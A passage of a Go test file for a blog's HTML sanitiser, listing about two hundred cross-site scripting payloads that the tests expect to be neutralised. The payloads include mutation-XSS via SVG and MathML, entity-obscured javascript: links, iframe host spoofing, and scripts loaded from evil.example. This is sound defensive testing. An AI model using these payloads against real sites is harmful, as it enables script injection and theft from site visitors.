package prepare_test

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"hanji/app/dom"
	"hanji/app/markdown"
	"hanji/app/prepare"
)

// attack is a body that tries to run a script, to load or submit something, or to
// pass for a part of the page.
type attack struct {
	name, source string
	// keeps is text that the article shows all the same, "" if there is none.
	keeps string
}

var attacks = []attack{
	// Scripts
	{"script", "앞 글\n\n<script>alert(1)</script>\n\n뒷글", "앞 글"},
	{"script in capitals", "<SCRIPT>alert(1)</SCRIPT>\n\n뒷글", "뒷글"},
	{"script in mixed case in a sentence", "앞<sCrIpT>alert(1)</ScRiPt>뒤", "앞뒤"},
	{"script with a slash", "<script/src=//evil.example/x.js></script>\n\n뒷글", "뒷글"},
	{"script with a space in its end tag", "<script>alert(1)</script >\n\n뒷글", "뒷글"},
	{"script over lines", "<script\ntype=\"text/javascript\"\n>\nalert(1)\n</script\n>\n\n뒷글", "뒷글"},
	{"script that does not end", "앞 글\n\n<script>alert(1)", "앞 글"},
	{"script that does not end its tag", "앞 글\n\n<script src=//evil.example/x.js", "앞 글"},
	{"script of a module", "<script type=module>import '//evil.example/x.js'</script>\n\n뒷글", "뒷글"},
	{"script in a list", "- 항목\n- <script>alert(1)</script>\n- 다음 항목", "다음 항목"},
	{"script in a quote", "> <script>alert(1)</script>\n> 인용", ""},
	{"script in a heading", "# 제목 <script>alert(1)</script>", "제목"},
	{"script in a table", "| 가 | 나 |\n|---|---|\n| <script>alert(1)</script> | 칸 |", "칸"},
	{"script in emphasis", "**강조<script>alert(1)</script>**", "강조"},
	{"script in the text of a link", "[링크<script>alert(1)</script>](https://example.org)", "링크"},
	{"script in HTML", "<div><p>글<script>alert(1)</script></p></div>", "글"},
	{"script within a script's name", "<scr<script>ipt>alert(1)</scr</script>ipt>", ""},
	{"script that removal makes", "가 <<b></b>script>alert(1)<<b></b>/script> 나", "나"},
	{"script that removing an element makes", "가 <<style></style>script>alert(1)</script> 나", "가"},
	{"script that removing a comment makes", "가 <scr<!-- -->ipt>alert(1)</scr<!-- -->ipt> 나", "나"},
	{"script that removing a null makes", "가 <scr\x00ipt>alert(1)</scr\x00ipt> 나", "나"},
	{"script after a stray end", "</p></div></body></html><script>alert(1)</script>\n\n뒷글", "뒷글"},
	{"script in entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"},
	{"script in a code span", "`<script>alert(1)</script>`", "<script>alert(1)</script>"},
	{"script after the end of a code block", "```html\n</code></pre><script>alert(1)</script>\n```", "<script>"},

	// Handlers
	{"handler of an image", "![](a.png)<img src=x onerror=alert(1)>글", "글"},
	{"handler in capitals", "<IMG SRC=x OnErRoR=alert(1)>", ""},
	{"handler after a slash", "<img/src=x/onerror=alert(1)>", ""},
	{"handler after a quote", "<img src=\"x\"onerror=\"alert(1)\">", ""},
	{"handler on lines", "<img\nsrc=x\nonerror\n=\nalert(1)>", ""},
	{"handler after a form feed", "<img\fsrc=x\fonerror=alert(1)>", ""},
	{"handler in a broken attribute", "<img \"\"\"><img src=x onerror=alert(1)>\"글>", ""},
	{"handler in back-ticks", "<img src=`x` onerror=`alert(1)`>", ""},
	{"handler of a body", "<body onload=alert(1)>\n\n글", "글"},
	{"handler of a paragraph", "<p onclick='alert(1)' onmouseover=alert(2)>누르세요</p>", "누르세요"},
	{"handler of an unknown element", "<x-y onfocus=alert(1) tabindex=1 autofocus>글</x-y>", "글"},
	{"handler of details", "<details ontoggle=alert(1) open><summary>제목</summary>글</details>", "제목"},
	{"handler of a video", "<video src=x onloadstart=alert(1) controls><source onerror=alert(1)></video>\n\n글", "글"},
	{"handler of an audio", "<audio src=x oncanplay=alert(1)></audio>\n\n글", "글"},
	{"handler of a marquee", "<marquee onstart=alert(1)>글</marquee>", "글"},
	{"handler of an animation", "<div style=\"animation:x\" onanimationstart=alert(1)>글</div>", "글"},
	{"handler of a task", "<input type=checkbox disabled onfocus=alert(1) autofocus>\n\n글", "글"},
	{"handler of a link", "<a href=# onclick=alert(1)>글</a>", "글"},
	{"handler in the description of an image", "![\"onerror=\"alert(1)](x)", ""},
	{"handler in the title of an image", "![글](x.png '\"onerror=\"alert(1)')", ""},
	{"handler in the title of a link", "[글](x \"\\\" onmouseover=\\\"alert(1)\")", "글"},
	{"handler in an address", "[글](<x\" onmouseover=\"alert(1)>)", "글"},
	{"handler in a fence", "```\"onclick=\"alert(1)\n코드\n```", "코드"},
	{"handler in a fence in entities", "```&quot;&#32;onclick=&quot;alert(1)\n코드\n```", "코드"},
	{"handler of an end tag", "<b>글</b onclick=alert(1)>", "글"},
	{"style", "<p style=\"background:url(javascript:alert(1));position:fixed;inset:0\">글</p>", "글"},

	// Addresses in Markdown
	{"javascript link", "[글](javascript:alert(1))", "글"},
	{"javascript in mixed case", "[글](JaVaScRiPt:alert(1))", "글"},
	{"javascript in angle brackets", "[글](<javascript:alert(1)>)", "글"},
	{"javascript after spaces", "[글](<  javascript:alert(1)>)", "글"},
	{"javascript with a tab", "[글](<java\tscript:alert(1)>)", "글"},
	{"javascript with a tab as an entity", "[글](java&#9;script:alert(1))", "글"},
	{"javascript with a named tab", "[글](java&Tab;script:alert(1))", "글"},
	{"javascript with a named line break", "[글](java&NewLine;script:alert(1))", "글"},
	{"javascript in numbers", "[글](&#106;avascript&#x3A;alert(1))", "글"},
	{"javascript with a named colon", "[글](javascript&colon;alert(1))", "글"},
	{"javascript in entities twice", "[글](javascript&#38;colon;alert(1))", "글"},
	{"javascript with a backslash", "[글](javascript\\:alert(1))", "글"},
	{"javascript after a control character", "[글](<\x01javascript:alert(1)>)", "글"},
	{"javascript with a soft hyphen", "[글](java\u00adscript:alert(1))", "글"},
	{"javascript in percent signs", "[글](javascript%3Aalert(1))", "글"},
	{"javascript definition", "[글][a]\n\n[a]: javascript:alert(1) 'x'", "글"},
	{"javascript definition on lines", "[글]\n\n[글]:\n   JAVASCRIPT:alert(1)", "글"},
	{"javascript autolink", "<javascript:alert(1)>", "javascript:alert(1)"},
	{"javascript autolink in mixed case", "<jAvAsCrIpT:alert(1)>", "alert(1)"},
	{"vbscript link", "[글](vbscript:msgbox(1))", "글"},
	{"data link", "[글](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "글"},
	{"data link of a picture", "[글](data:image/png;base64,AAAA)", "글"},
	{"data autolink", "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>", "data:"},
	{"javascript image", "![그림](javascript:alert(1))", "그림"},
	{"data image that can hold a script", "![그림](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "그림"},
	{"data image that is a page", "![그림](data:text/html,x)", "그림"},
	{"data image with a false type", "![그림](<data:image/png\tx;text/html,x>)", "그림"},
	{"javascript in a footnote", "글[^1]\n\n[^1]: [쪽지](javascript:alert(1)) <img src=x onerror=alert(1)>", "쪽지"},
	{"markup in a footnote's name", "글[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: 쪽지", "글"},

	// Addresses in HTML
	{"javascript in raw HTML", "<a href=\"javascript:alert(1)\">글</a>", "글"},
	{"javascript with line breaks in raw HTML", "<a href=\"java\nscr\tipt:alert(1)\">글</a>", "글"},
	{"javascript with entities in raw HTML", "<a href=\"&#x6A;avascript&colon;alert&lpar;1)\">글</a>", "글"},
	{"javascript in raw HTML without semicolons", "<a href=&#0000106&#0000097vascript:alert(1)>글</a>", "글"},
	{"javascript after a control character in raw HTML", "<a href=\"&#1;javascript:alert(1)\">글</a>", "글"},
	{"javascript after an ideographic space", "<a href=\"\u3000javascript:alert(1)\">글</a>", "글"},
	{"javascript source of an image", "<img src=\"javascript:alert(1)\" alt=그림>글", "글"},
	{"javascript poster", "<video poster=javascript:alert(1) src=vbscript:x></video>\n\n글", "글"},
	{"javascript srcset", "<img src=a.png srcset=\"b.png 1x, javascript:alert(1) 2x\">글", "글"},
	{"javascript in a broken srcset", "<img src=a.png srcset=\"b.png 1y javascript:alert(1) 2x\">글", "글"},
	{"javascript cite", "<blockquote cite=javascript:alert(1)>글</blockquote>", "글"},
	{"javascript cite of a deletion", "<del cite=\"data:text/html,x\">글</del>", "글"},
	{"two addresses", "<a href=\"/a\" href=\"javascript:alert(1)\">글</a>", "글"},
	{"two addresses, the first bad", "<a href=\"javascript:alert(1)\" href=\"/a\">글</a>", "글"},
	{"area of a map", "<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=a.png>글", "글"},
	{"background of a table", "<table background=\"javascript:alert(1)\"><tr><td background=x>칸</td></tr></table>", "칸"},
	{"ping and target", "<a href=/a ping=//evil.example target=_top download>글</a>", "글"},

	// SVG and MathML
	{"svg handler", "<svg onload=alert(1)></svg>\n\n글", "글"},
	{"svg script", "<svg><script>alert(1)</script></svg>\n\n글", "글"},
	{"svg script by entities", "<svg><script>&#97;lert(1)</script></svg>\n\n글", "글"},
	{"svg link", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>\n\n글", "글"},
	{"svg animation", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>\n\n글", "글"},
	{"svg foreign object", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\n\n글", "글"},
	{"svg style that closes", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", ""},
	{"svg use", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>\n\n글", "글"},
	{"math link", "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">글</maction></math>", ""},
	{"math text to HTML", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", ""},
	{"math in a form in a form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""},
	{"math annotation", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>", ""},

	{"math that is a link", "<math href=\"javascript:alert(1)\" xlink:href=\"javascript:alert(1)\"><mi href=\"javascript:alert(1)\">글</mi></math>", ""},
	{"math with handlers and styles", "<math onclick=alert(1) style=\"position:fixed\" id=page><mi onmouseover=alert(1)>글</mi></math>", ""},
	{"math that shows and hides", "<math><maction actiontype=\"statusline#javascript:alert(1)\"><mi>글</mi></maction></math>", ""},
	{"math symbol with HTML", "<math><mi><img src=x onerror=alert(1)><script>alert(1)</script>글</mi></math>", ""},
	{"math text with math", "<math><mtext><math><mtext><script>alert(1)</script><p>글</p></mtext></math></mtext></math>", ""},
	{"math text with a marked glyph", "<math><mtext><malignmark><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", ""},
	{"math text with svg", "<math><mtext><svg><style><img title=\"</style><img src onerror=alert(1)>\"></style></svg></mtext></math>", ""},
	{"math annotation of HTML", "<math><semantics><mi>x</mi><annotation encoding=\"text/html\"><img src=x onerror=alert(1)></annotation></semantics></math>", ""},
	{"math annotation that ends", "<math><semantics><mi>x</mi><annotation>&lt;/annotation>&lt;img src=x onerror=alert(1)></annotation></semantics></math>", ""},
	{"math in a table", "<table><math><mtext><tr><td><style></math><img src onerror=alert(1)></table>", ""},
	{"math broken out of", "<math><mrow><p><mi><b><style><!--</style></math><img title=\"--><img src=x onerror=alert(1)>\">", ""},
	{"math that closes a paragraph", "<p><math><mi></p><style><!--</mi></math></style><img title=\"--><img src=x onerror=alert(1)>\">", ""},
	{"math in a heading in a link", "<a href=#><math><mi><a href=javascript:alert(1)><mi>글</mi></a></mi></math></a>", ""},

	// Drawings
	{"svg link", "<svg><a href=javascript:alert(1) xlink:href=javascript:alert(1)><text>글</text></a></svg>", ""},
	{"svg use of another file", "<svg><use href=//evil.example/x.svg#a /><use xlink:href=\"data:image/svg+xml,<svg id=a onload=alert(1)>#a\" /></svg>", ""},
	{"svg animation of an address", "<svg><a id=x><text>글</text></a><animate href=#x attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>", ""},
	{"svg handlers and styles", "<svg onload=alert(1) style=\"position:fixed;background:url(//evil.example)\" tabindex=1 onfocus=alert(1) autofocus><path onclick=alert(1)></svg>", ""},
	{"svg fill of another file", "<svg><path fill=\"url(//evil.example/x.svg#a)\" stroke=\"u\\72l(//evil.example)\" mask=\"image-set('//evil.example' 1x)\" clip-path=\"url(#a) url(//evil.example)\"></svg>", ""},
	{"svg title with HTML", "<svg><title><img src=x onerror=alert(1)><style><!--</style><p title=\"--><img src=x onerror=alert(1)>\">글</title></svg>", ""},
	{"svg description with svg and math", "<svg><desc><svg><desc><math><mtext><script>alert(1)</script></mtext></math></desc></svg></desc></svg>", ""},
	{"svg that holds a page", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><body onload=alert(1)></foreignObject></svg>", ""},
	{"svg picture and filter", "<svg><image href=//evil.example/x.png /><filter><feImage href=//evil.example/x.png /></filter><script href=//evil.example/x.js /></svg>", ""},
	{"svg broken out of", "<svg><g><p><style><!--</style></svg><img title=\"--><img src=x onerror=alert(1)>\">", ""},
	{"svg style that closes", "<svg><style><a title=\"</style><img src=x onerror=alert(1)>\"></style></svg>", ""},
	{"svg in a form in a form", "<form><svg><desc></form><form><style></svg><img src onerror=alert(1)>", ""},
	{"svg names of the page", "<svg id=page><g id=hanji></g><path id=App /></svg>", ""},

	// Elements of raw text
	{"style that closes", "<style><img src=\"</style><img src=x onerror=alert(1)//\">\n\n글", ""},
	{"style import", "<style>@import '//evil.example/x.css'; body{display:none}</style>\n\n글", "글"},
	{"noscript attribute", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">글", ""},
	{"title that closes", "<title><p id=\"</title><img src=x onerror=alert(1)>\">", ""},
	{"textarea that closes", "<textarea><p id=\"</textarea><img src=x onerror=alert(1)>\">", ""},
	{"xmp that closes", "<xmp><p id=\"</xmp><img src=x onerror=alert(1)>\">", ""},
	{"noembed that closes", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", ""},
	{"noframes that closes", "<noframes><p id=\"</noframes><svg/onload=alert(1)>\">", ""},
	{"plain text", "<plaintext><script>alert(1)</script>\n\n글", ""},
	{"template", "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>\n\n글", "글"},
	{"shadow root", "<div><template shadowrootmode=open><style>*{color:red}</style><slot></slot></template>글</div>", "글"},
	{"select", "<select><style></select><img src=x onerror=alert(1)></style></select>", ""},
	{"iframe that closes", "<iframe src=https://www.youtube.com/embed/a><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>", ""},

	// Comments and declarations
	{"comment", "<!-- 숨김 -->\n\n글", "글"},
	{"comment with a script", "<!--><script>alert(1)</script>-->", ""},
	{"comment that ends oddly", "<!-- --!><img src=x onerror=alert(1)> -->\n\n글", ""},
	{"comment within a comment", "<!-- <!-- --> <img src=x onerror=alert(1)> -->", ""},
	{"conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->\n\n글", "글"},
	{"comment in a sentence", "앞<!-- <img src=x onerror=alert(1)> -->뒤", "앞뒤"},
	{"section of characters", "<![CDATA[<script>alert(1)</script>]]>\n\n글", "글"},
	{"section of characters in a sentence", "앞<![CDATA[><img src=x onerror=alert(1)>]]>뒤", "뒤"},
	{"instruction", "<?xml version=\"1.0\"?><?php echo '<img src=x onerror=alert(1)>' ?>\n\n글", "글"},
	{"instruction in a sentence", "앞<? ><img src=x onerror=alert(1)> ?>뒤", "뒤"},
	{"declaration", "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>\n\n글", "글"},
	{"declaration in a sentence", "앞<!X <img src=x onerror=alert(1)>뒤", "뒤"},

	// Tags that do not end
	{"image that does not end", "글\n\n<img src=x onerror=alert(1) alt=\"", "글"},
	{"image that ends in text", "앞 <img src=\"x\" onerror=\"alert(1)\" \n\n뒤", "뒤"},
	{"attribute over a blank line", "<img src=x title=\"\n\n\" onerror=\"alert(1)\">", ""},
	{"attribute over Markdown", "<div title=\"\n\n![\" onmouseover=\"alert(1)](x)\n\n\">글</div>", "글"},
	{"attribute with a tag", "<p title='<img src=x onerror=alert(1)>'>글</p>", "글"},
	{"tag in a tag", "<div<img src=x onerror=alert(1)>글</div>", ""},
	{"end tag of the article", "</div></article></main></div><div id=main>글</div>", ""},
	{"blocks in a table", "<table><a href=javascript:alert(1)><tr><td>칸</td></tr></a></table>", "칸"},
	{"links in links", "<a href=/1><p><a href=javascript:alert(1)>글</a></p></a>", "글"},
	{"a thousand elements", strings.Repeat("<div><b>", 1000) + "<img src=x onerror=alert(1)>글", "글"},

	// Names that the page uses
	{"id of the page", "<div id=page>글</div>", "글"},
	{"id of the application", "<p id=\"app\">글</p> <p id='APP'>글</p>", "글"},
	{"id of the script", "글 <span id=boot>a</span> <span id=hanji>b</span>", "글"},
	{"name of an anchor", "<a name=main></a><a name=hanji href=/x>글</a>", "글"},
	{"name of an image", "<img name=app src=a.png><img id=boot name=boot src=b.png>글", "글"},
	{"id of the framework", "<div id=goappWasm>글</div>", "글"},
	{"form of names", "<form id=hanji><input name=boot><input id=page></form>글", "글"},
	{"headings of reserved names", "# page\n\n## App\n\n## boot\n\n## hanji\n\n## main", "hanji"},
	{"heading that is markup", "# \"><img src=x onerror=alert(1)>", ""},
	{"id of a footnote", "글[^1] <span id=\"fn:1\">a</span> <span id=fnref:1>b</span>\n\n[^1]: 쪽지", "쪽지"},

	// Frames, forms and what loads
	{"iframe of an unknown host", "<iframe src=https://evil.example/>대신</iframe>\n\n글", "글"},
	{"iframe of a javascript address", "<iframe src=\"javascript:alert(1)\"></iframe>\n\n글", "글"},
	{"iframe of data", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>\n\n글", "글"},
	{"iframe with its own document", "<iframe srcdoc=\"<script>alert(1)</script>\" src=https://www.youtube.com/embed/a></iframe>\n\n글", "글"},
	{"iframe of a host's name in another", "<iframe src=https://www.youtube.com.evil.example/embed/a></iframe>\n\n글", "글"},
	{"iframe of a user's name", "<iframe src=https://www.youtube.com@evil.example/embed/a></iframe>\n\n글", "글"},
	{"iframe with a backslash", "<iframe src=\"https://evil.example\\@www.youtube.com/embed/a\"></iframe>\n\n글", "글"},
	{"iframe with backslashes", "<iframe src=\"https:\\\\evil.example/embed/a\"></iframe>\n\n글", "글"},
	{"iframe of the blog", "<iframe src=/embed/a></iframe>\n\n글", "글"},
	{"iframe of a port", "<iframe src=https://www.youtube.com:8443/embed/a></iframe>\n\n글", "글"},
	{"iframe with dots in its path", "<iframe src=https://www.youtube.com/embed/../redirect?q=x></iframe>\n\n글", "글"},
	{"iframe with dots in percent signs", "<iframe src=https://www.youtube.com/embed/%2e%2E/redirect></iframe>\n\n글", "글"},
	{"iframe that opens its sandbox", "<iframe src=https://www.youtube.com/embed/a sandbox=\"allow-top-navigation\" allow=\"camera; microphone\"></iframe>\n\n글", "글"},
	{"iframe within an iframe", "<iframe src=https://www.youtube.com/embed/a><iframe src=javascript:alert(1)></iframe></iframe>\n\n글", "글"},
	{"frames", "<frameset><frame src=javascript:alert(1)></frameset>\n\n글", "글"},
	{"object", "<object data=javascript:alert(1)><param name=src value=x>대신</object>\n\n글", "글"},
	{"embed", "<embed src=javascript:alert(1)>\n\n글", "글"},
	{"applet", "<applet code=x></applet>\n\n글", "글"},
	{"base", "<base href=\"javascript:alert(1)//\"><base target=_blank>\n\n글", "글"},
	{"refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">\n\n글", "글"},
	{"policy", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">\n\n글", "글"},
	{"style sheet", "<link rel=stylesheet href=//evil.example/x.css>\n\n글", "글"},
	{"import", "<link rel=import href=//evil.example/x.html>\n\n글", "글"},
	{"form", "<form action=javascript:alert(1)><input name=q><button>글</button></form>", "글"},
	{"button with an action", "<button formaction=javascript:alert(1)>글</button>", "글"},
	{"button in the form of another", "<button form=f formaction=//evil.example popovertarget=x>글</button>", "글"},
	{"input that is an image", "<input type=image src=x formaction=javascript:alert(1) onerror=alert(1)>\n\n글", "글"},
	{"keygen", "<keygen autofocus onfocus=alert(1)>\n\n글", "글"},
	{"portal", "<portal src=https://evil.example>글</portal>", "글"},
	{"dialog", "<dialog open id=page>글</dialog>", "글"},
	{"editable text", "<div contenteditable autofocus accesskey=x is=x-y slot=s part=p nonce=n>글</div>", "글"},

	// The mark for the blog's address
	{"mark in an address", "[글](\U0010fffdjavascript:alert(1))", "글"},
	{"mark in an attribute", "<a href=\"\U0010fffd/evil.example\">글</a>", "글"},
	{"mark as an entity", "<a href=\"&#x10FFFD;/evil.example\">글</a> &#1114109;", "글"},
	{"mark as an entity that does not end", "<a href=\"&#x10FFFD/evil.example\">글</a>", "글"},
	{"mark as an entity that removal makes", "글 &#x10<script></script>FFFD; 뒤", "뒤"},
	{"mark in code", "`\U0010fffd` 글", "글"},
}

func TestAttacksComeToNothing(t *testing.T) {
	for _, attack := range attacks {
		t.Run(attack.name, func(t *testing.T) {
			article := rendered(attack.source)
			for _, danger := range dangers(article, unknown) {
				t.Errorf("%s\nin %s", danger, article)
			}
			if again := reserialised(article); again != dom.SortFormatting(article) {
				t.Errorf("parsing changes\n%s\nto\n%s", article, again)
			}
			checkHTML(t, attack.source, unknown)
			if text := textOf(parsed(article)); !strings.Contains(text, attack.keeps) {
				t.Errorf("%q is not in %q", attack.keeps, text)
			}
		})
	}
}

// checkHTML checks what a source that is HTML becomes.
func checkHTML(t *testing.T, source string, refused func(scheme string) bool) {
	t.Helper()
	article := markdown.Render(prepare.HTML(prepare.Input{Source: source}).Text, blog).HTML
	for _, danger := range dangers(article, refused) {
		t.Errorf("%s\nin %s", danger, article)
	}
	if again := reserialised(article); again != dom.SortFormatting(article) {
		t.Errorf("parsing changes\n%s\nto\n%s", article, again)
	}
}

// TestDangersAreSeen makes sure that the tests above could fail.
func TestDangersAreSeen(t *testing.T) {
	for _, article := range []string{
		"<script>x</script>", "<svg><a>", "<svg onload=x>", "<svg><use href=/x#a>", "<svg><path fill='url(//x)'>", "<svg><title><b>", "<svg id=page>", "<svg><image>", "<!-- x -->", "<p onclick=x>", "<p style=x>", "<p id=Page>",
		"<a name=app>", "<a href=' java\tscript:x'>", "<a href=data:image/png,x>", "<img src=data:image/svg+xml,x>",
		"<img srcset='a 1x, javascript:x 2x'>", "<img srcset='data:image/png;x,y,javascript:x'>", "<video poster=vbscript:x>", "<iframe>", "<iframe src=http://www.youtube.com/>",
		"<iframe src=https://evil.example/>", "<input>", "<form>", "<base href=/>", "<p>" + blog,
		"<math id=x>", "<math href=/>", "<math><mi><b>x", "<math><mtext><math>", "<math><mglyph>", "<math><annotation-xml>", "<mi>",
	} {
		if len(dangers(article, unknown)) == 0 {
			t.Errorf("nothing seen in %s", article)
		}
	}
	if found := dangers(`<p id="a"><a href="mailto:a@b.c">x</a><img src="data:image/png,x"></p>`, unknown); found != nil {
		t.Error(found)
	}
}

// blog is the address of the blog, to which no attack finds a destination resolved.
const blog = "/the-blog/"

// rendered returns the article that a reader of the blog gets.
func rendered(source string) string {
	return markdown.Render(prepare.Body(prepare.Input{Source: source}).Text, blog).HTML
}

// parsed parses an article as a browser does that puts it into the page.
func parsed(article string) *html.Node {
	root := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(article), root)
	if err != nil {
		panic(err) // a string can be read, and all of it is HTML
	}
	for _, n := range nodes {
		root.AppendChild(n)
	}
	return root
}

// reserialised returns what a browser makes of an article, written in the
// article's style: four characters escaped, void elements without a slash.
func reserialised(article string) string {
	var b strings.Builder
	root := parsed(article)
	for n := range root.ChildNodes() {
		if err := html.Render(&b, n); err != nil {
			return err.Error()
		}
	}
	return strings.NewReplacer("/>", ">", "&#34;", "&quot;", "&#39;", "'").Replace(b.String())
}

func textOf(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

// dangers returns what should not be in an article, addresses with a refused
// scheme included. It shares nothing with the policy that it checks but the hosts
// of frames.
func dangers(article string, refused func(scheme string) bool) []string {
	var found []string
	complain := func(format string, args ...any) { found = append(found, fmt.Sprintf(format, args...)) }
	if strings.Contains(article, blog) {
		complain("the blog's address, which only Resolve may give")
	}
	for n := range parsed(article).Descendants() {
		switch {
		case n.Type == html.TextNode:
		case n.Type != html.ElementNode:
			complain("a comment or declaration: %q", n.Data)
		case isHarmlessMath(n):
			for _, a := range n.Attr {
				if a.Namespace != "" || !idleInMath.MatchString(a.Key) {
					complain("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			}
		case isHarmlessDrawing(n):
			for _, a := range n.Attr {
				if a.Namespace != "" || !idleInDrawings.MatchString(a.Key) || a.Key == "href" && !strings.HasPrefix(a.Val, "#") ||
					a.Key == "id" && isDangerous("svg", a, refused) || a.Key != "class" && !strings.HasPrefix(a.Key, "aria-") && a.Key != "id" &&
					(strings.Contains(a.Val, `\`) || strings.Count(a.Val, "url(") != strings.Count(a.Val, "url(#") || strings.Contains(a.Val, "image")) {
					complain("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			}
		case n.Namespace != "" || n.Parent.Namespace != "" || !slices.Contains(harmless, n.Data):
			complain("<%s>", n.Data)
		default:
			for _, a := range n.Attr {
				if isDangerous(n.Data, a, refused) {
					complain("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			}
			if src, _ := url.Parse(valueOf(n, "src")); n.Data == "iframe" && (src == nil || src.Scheme != "https" ||
				src.User != nil || !slices.Contains(prepare.FrameHosts(), src.Host)) {
				complain("a frame of %q", valueOf(n, "src"))
			}
			if n.Data == "input" && !strings.EqualFold(valueOf(n, "type"), "checkbox") {
				complain("<input type=%q>", valueOf(n, "type"))
			}
		}
	}
	return found
}

var harmless = strings.Fields(`
	a abbr audio b bdi bdo blockquote br caption cite code col colgroup data dd del details dfn div dl dt
	em figcaption figure h2 h3 h4 h5 h6 hr i iframe img input ins kbd label li mark ol p picture pre q rb
	rp rt rtc ruby s samp section small source span strong sub summary sup table tbody td tfoot th thead
	time tr track u ul var video wbr`)

var (
	harmlessMath = strings.Fields(`annotation math mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow
		mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover none semantics`)
	harmlessShapes = strings.Fields(`circle clipPath defs desc ellipse g line linearGradient marker mask path polygon polyline
		radialGradient rect stop svg text title tspan use`)
	mathText = strings.Fields(`annotation mi mn mo mtext`)
)

var (
	idle           = regexp.MustCompile(`^(align|alt|aria-[a-z]+|checked|class|controls|colspan|datetime|decoding|default|dir|disabled|headers|height|kind|label|lang|loading|loop|media|muted|open|playsinline|preload|rel|reversed|role|rowspan|scope|sizes|span|srclang|start|tabindex|title|type|value|width|abbr)$`)
	idleInMath     = regexp.MustCompile(`^(accent|accentunder|class|depth|display|displaystyle|encoding|fence|form|height|largeop|linethickness|lspace|mathbackground|mathcolor|mathsize|mathvariant|maxsize|minsize|movablelimits|rspace|scriptlevel|separator|stretchy|symmetric|voffset|width)$`)
	idleInDrawings = regexp.MustCompile(`^(aria-[a-z]+|class|id|role|href|[cdrxy]|[cfr][xy]|d[xy]|[xy][12]|ref[XY]|width|height|viewBox|points|offset|orient|rotate|transform|opacity|color|display|visibility|mask|fill.*|stroke.*|stop-.*|font-.*|text.*|marker.*|clip.*|gradient.*|mask.*|[a-z]+-[a-z]+|pathLength|lengthAdjust|preserveAspectRatio|spreadMethod)$`)
	ofFrames       = regexp.MustCompile(`^(allow|referrerpolicy|sandbox)$`)
	schemeName     = regexp.MustCompile(`^[a-z][a-z0-9+.-]*$`)
	picture        = regexp.MustCompile(`(?i)^data:image/(png|jpeg|gif|webp|avif)([;,]|$)`)
)

// isHarmlessMath reports whether an element is of MathML, in it, and not in a symbol.
func isHarmlessMath(n *html.Node) bool {
	return n.Namespace == "math" && (n.Data == "math") == (n.Parent.Namespace == "") &&
		slices.Contains(harmlessMath, n.Data) && !slices.Contains(mathText, n.Parent.Data)
}

// isHarmlessDrawing reports whether an element is of SVG, in it, and not in a title.
func isHarmlessDrawing(n *html.Node) bool {
	within := n.Parent
	return n.Namespace == "svg" && (within.Namespace == "svg" || within.Namespace == "" && n.Data == "svg") &&
		slices.Contains(harmlessShapes, n.Data) && within.Data != "title" && within.Data != "desc"
}

// isDangerous judges an attribute: it is one that does nothing, or an address
// whose scheme is not refused, or an id or a class that is not the page's.
func isDangerous(element string, a html.Attribute, refused func(scheme string) bool) bool {
	runs := func(address string) bool { return refused(schemeOf(address)) }
	switch {
	case a.Namespace != "":
		return true
	case a.Key == "id":
		return slices.Contains([]string{"app", "boot", "hanji", "main", "page"}, strings.ToLower(a.Val)) ||
			strings.HasPrefix(strings.ToLower(a.Val), "goapp")
	case a.Key == "class":
		return slices.ContainsFunc(strings.Fields(a.Val), func(name string) bool { return strings.HasPrefix(name, "hanji-") && name != "hanji-math" })
	case a.Key == "href" || a.Key == "cite":
		return runs(a.Val)
	case a.Key == "src" || a.Key == "poster":
		return runs(a.Val) && !picture.MatchString(a.Val)
	case a.Key == "srcset":
		parts := strings.FieldsFunc(a.Val, func(r rune) bool { return strings.ContainsRune(", \t\n\f\r", r) })
		return slices.ContainsFunc(parts, func(part string) bool { return runs(part) && !picture.MatchString(part) })
	case element == "iframe" && a.Key == "data-page": // Becomes the href of a link.
		return runs(a.Val)
	case element == "iframe" && ofFrames.MatchString(a.Key):
		return strings.Contains(a.Val, "top-navigation") || strings.Contains(a.Val, "camera")
	}
	return !idle.MatchString(a.Key)
}

// schemeOf finds the scheme of an address as the URL standard says, "" if it is
